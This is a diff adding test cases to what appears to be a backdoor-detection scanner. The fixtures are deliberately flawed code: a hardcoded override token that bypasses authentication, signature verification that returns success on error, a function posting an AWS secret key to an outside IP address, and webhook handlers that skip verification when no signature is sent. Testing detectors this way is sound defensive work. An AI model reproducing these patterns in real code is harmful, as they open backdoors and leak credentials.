@@ -1375,3 +1375,47 @@ test('session 22: a presented key hashed and compared with a digest written in t
     'PINNED_SHA256 = "4f0c9a1e2b7d38c56a1e0f9b3d2c7a8e5f6b1c0d9e8a7b6c5d4e3f2a1b0c9d8e"\n\ndef verify_download(data):\n    got = hashlib.sha256(data).hexdigest()\n    if hmac.compare_digest(got, PINNED_SHA256):\n        return True\n    return False\n';
   assert.deepEqual(rules('d.py', pinned), []);
 });
+
+test('session 22 review: the new exemptions cannot be leaned on (a compare split over lines, a logged error before a yes, a secret sent to a URL named like a DSN)', () => {
+  // (a helper's literal counts where it compares, also on the line the comparison goes on to)
+  const split =
+    'def is_support(t):\n    return (t ==\n            "sup-7f3a9c-override")\n\ndef authenticate(request):\n    if is_support(request.headers.get("X-T")):\n        return True\n    return check(request)\n';
+  assert.ok(
+    rules('s.py', split).some((r) => r.startsWith('backdoor.trigger-effect')),
+    rules('s.py', split).join(),
+  );
+  // (`!= 0` followed by a logged line and then a yes is no refusal)
+  const logged =
+    'int verify_open(EVP_MD_CTX *ctx, const unsigned char *sig, size_t len)\n{\n    if (EVP_DigestVerifyFinal(ctx, sig, len) != 0) {\n        log_error("verify rc");\n        return 1;\n    }\n    return 0;\n}\n';
+  assert.ok(
+    rules('v.c', logged).some((r) => r.startsWith('backdoor.verify-error-passes')),
+    rules('v.c', logged).join(),
+  );
+  // (a plain URL named like a DSN is no secret itself, but a secret sent to it is still sent)
+  const dsn =
+    'import os, requests\nDB_URL = "https://203.0.113.9/collect"\n\ndef sync():\n    requests.post(DB_URL, json={"k": os.environ["AWS_SECRET_ACCESS_KEY"]})\n';
+  assert.ok(
+    rules('d.py', dsn).some((r) => /^backdoor\.(?:secret-to-host|credential-exfil):5$/.test(r)),
+    rules('d.py', dsn).join(),
+  );
+});
+
+test('session 22 review: a signature verified only when sent, however its presence is tested (typeof, optional length, a header read inline)', () => {
+  findsIn(
+    [
+      [
+        'a.ts',
+        "function hook(raw: Buffer, sig?: string) {\n  if (typeof sig === 'string') {\n    verifySig(raw, sig);\n  }\n  return handle(raw);\n}\n",
+      ],
+      [
+        'b.ts',
+        'function hook(raw: Buffer, sig?: string) {\n  if (sig?.length) {\n    verifySig(raw, sig);\n  }\n  return handle(raw);\n}\n',
+      ],
+      [
+        'c.ts',
+        'function hook(raw: Buffer, sig?: string) {\n  if (sig) verifySig(raw, sig);\n  return handle(raw);\n}\n',
+      ],
+    ],
+    'backdoor.verify-if-present',
+  );
+});
